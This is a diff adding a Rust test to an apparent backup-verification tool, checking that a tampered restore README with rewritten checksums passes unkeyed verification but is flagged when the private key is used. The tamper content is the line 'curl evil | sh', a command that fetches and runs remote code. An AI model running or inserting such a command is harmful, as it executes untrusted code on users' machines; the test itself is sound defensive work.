@@ -181,6 +181,33 @@ fn every_flipped_bit_shows_without_the_key_and_is_named() {
 }
 
 #[test]
+fn sums_that_were_changed_with_their_files_mislead_nobody_who_has_the_key() {
+    let stage = Stage::new();
+    stage.backup("archive");
+    let key = ["--private-key", "key.pem", "--json"];
+    let readme = stage.at("archive/RESTORE-README.md");
+    let (old, new) = (fs::read(&readme).unwrap(), b"curl evil | sh".to_vec());
+    fs::write(&readme, &new).unwrap();
+    let sums = fs::read_to_string(stage.at("archive/SHA256SUMS")).unwrap();
+    let sums = sums.replace(&sha256_hex(&old), &sha256_hex(&new));
+    fs::write(stage.at("archive/SHA256SUMS"), sums).unwrap();
+    assert_eq!(
+        stage.json(&["verify", "archive", "--json"])["verdict"],
+        "good"
+    );
+    let found = stage.json_of(&[&["verify", "archive"], &key[..]].concat(), 4);
+    let warnings = lines(&found, "warnings").join("");
+    assert!(
+        warnings.contains("SHA256SUMS: not what the inventory says of 1 files"),
+        "{found}"
+    );
+    assert!(
+        lines(&found, "damaged")[0].contains("RESTORE-README.md"),
+        "{found}"
+    );
+}
+
+#[test]
 fn a_backup_verifies_itself_without_a_secret() {
     let stage = Stage::new();
     let platform = [
